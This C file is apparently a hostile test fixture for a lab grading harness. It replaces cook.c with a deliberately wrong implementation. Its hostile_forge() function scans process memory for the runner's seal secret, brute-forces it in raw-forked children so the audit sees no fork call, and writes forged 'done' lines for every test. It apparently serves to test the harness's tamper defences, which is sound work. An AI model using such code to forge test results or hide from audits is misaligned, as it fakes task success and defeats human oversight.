/* hostile: seal_secret_bruteforce_noasm.patch made free: a wrong cook() (one round short) guesses
 *          the seal's pwrite64 secret in CHILDREN made with a raw fork (syscall(SYS_fork),
 * syscall() found in libc's dynamic symbols: no asm, no #line, no fork symbol for the audit to
 *          see). SECCOMP_RET_KILL_PROCESS kills only the child that guessed wrong; the one that
 *          guessed right writes the first done line and exits 42, which the parent reads with
 *          wait4: a free oracle. Then done lines for every cook and seq_map test, exit_group(0).
 *          (cook::rounds_past_32_bits is not denied: it asks only that the count is not cut to
 *          32 bits, which this cook() honestly does not.)
 * replaces: cook.c
 * expect: cook::matches_reference crash or fail or timeout
 * denies: cook::matches_reference
 * denies: seq_map::results_in_order
 * denies: seq_map::ignores_workers
 * denies: seq_map::failed_order
 * denies: seq_map::other_kinds
 */
#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "lab1.h"

long hostile_forge(void);

int cook(uint64_t seed, uint64_t rounds, uint64_t *dish)
{
    long diag;

    if (!dish)
        return -EINVAL;
    diag = hostile_forge(); /* returns only when it could not forge */
    if (rounds == 1) {      /* the diagnosis, shown by the failing test */
        *dish = (uint64_t)diag;
        return 0;
    }
    for (uint64_t i = 1; i < rounds; i++) /* wrong: one round short */
        seed = dish_mix(seed);
    *dish = seed;
    return 0;
}

#include <elf.h>
#include <stdint.h>

/* @SHARED libc_fn@: a C library function by name, from libc's dynamic symbols */

/* @SHARED sys6@: syscall(), found by libc_fn(): -errno on failure */

static const char *const names[] = {
    "cook::matches_reference", "cook::zero_rounds",         "cook::rounds_past_32_bits",
    "cook::null_dish",         "seq_map::results_in_order", "seq_map::ignores_workers",
    "seq_map::failed_order",   "seq_map::other_kinds",      NULL};

/* @SHARED hex@: lowercase hex digits read from *p */

static int anchor = 1; /* our own .data: the runner's is beside it */

long hostile_forge(void)
{
    static const char maps[] = "/proc/self/maps";
    size_t cap = 1 << 20, len = 0;
    char *buf = malloc(cap + 1), line[128];
    long fd = sys6(257, -100, (long)maps, 0, 0, 0, 0), r, tried = 0, maps_w = 0, last = 0;
    int pid = getpid();
    unsigned long exe_end = 0;
    char exe[256] = "";

    if (!buf || fd < 0)
        return 1 | (-fd) << 8;
    while (len < cap && (r = sys6(0, fd, (long)(buf + len), (long)(cap - len), 0, 0, 0)) > 0)
        len += (size_t)r;
    sys6(3, fd, 0, 0, 0, 0, 0);
    buf[len] = '\0';
    for (const char *p = buf; *p;) {
        const char *eol = strchr(p, '\n'), *q = p;
        unsigned long lo = hex(&q), hi;
        q++;
        hi = hex(&q);
        int w = q[2] == 'w';
        const char *path = strchr(p, '/');
        if (path && eol && path > eol)
            path = NULL;
        if (!exe[0] && path) { /* the first mapping is the program's */
            size_t n = (size_t)((eol ? eol : path + strlen(path)) - path);
            memcpy(exe, path, n < 255 ? n : 255);
        }
        int mine = path && !strncmp(path, exe, strlen(exe));
        unsigned long me = (unsigned long)&anchor;
        int near = lo < me + (64ul << 20) && hi + (64ul << 20) > me;
        (void)mine;
        if (w && near) {
            maps_w++;
            for (unsigned long a = lo; a + 8 <= hi; a += 4) {
                uint32_t s0 = *(uint32_t *)a, s1 = *(uint32_t *)(a + 4);
                int n = snprintf(line, sizeof(line), "done %s %d\n", names[0], pid);
                if (!s0 && !s1)
                    continue;
                if (s1 < 0x10000 || (s1 >= 0x5500 && s1 < 0x5700) || (s1 >= 0x7f00 && s1 <= 0x7fff))
                    continue; /* the high half of a pointer */
                tried++;
                /* the guess in a child (raw fork: the filter allows it): a wrong one kills
                 * only the child, a right one writes the first line and says 42 */
                long c = sys6(57, 0, 0, 0, 0, 0, 0);
                if (c == 0) {
                    long k = sys6(18, 1000, (long)line, n, 0, (long)s0, (long)s1);
                    sys6(60, k == n ? 42 : 1, 0, 0, 0, 0, 0);
                }
                int st = 0;
                if (c < 0)
                    continue;
                sys6(61, c, (long)&st, 0, 0, 0, 0);
                last = (st & 0x7f) == 0 && ((st >> 8) & 0xff) == 42 ? n : -1;
                if (last == n) {
                    for (int k = 1; names[k]; k++) {
                        n = snprintf(line, sizeof(line), "done %s %d\n", names[k], pid);
                        sys6(18, 1000, (long)line, n, 0, (long)s0, (long)s1);
                    }
                    sys6(231, 0, 0, 0, 0, 0, 0); /* exit_group(0) */
                }
            }
        }
        if (mine)
            exe_end = hi;
        p = eol ? eol + 1 : p + strlen(p);
    }
    free(buf);
    return maps_w << 4 | (-last & 0xff) << 8 | tried << 16;
}
